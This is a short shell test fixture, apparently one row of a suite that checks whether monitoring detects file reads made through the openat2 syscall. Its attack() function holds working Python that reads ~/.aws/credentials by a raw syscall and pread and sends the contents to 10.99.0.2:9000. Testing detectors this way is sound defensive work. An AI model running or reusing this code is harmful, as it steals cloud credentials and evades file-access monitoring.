# SPDX-License-Identifier: Apache-2.0
TITLE="openat2, then pread"
ROW="R02"
attack() {
	python3 - <<-'END'
	import ctypes, os, socket
	OPENAT2, AT_FDCWD = 437, -100
	how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
	path = os.path.expanduser('~/.aws/credentials').encode()
	fd = ctypes.CDLL(None).syscall(OPENAT2, AT_FDCWD, path, ctypes.byref(how), ctypes.sizeof(how))
	socket.create_connection(('10.99.0.2', 9000), 5).sendall(os.pread(fd, 4096, 0))
	END
}
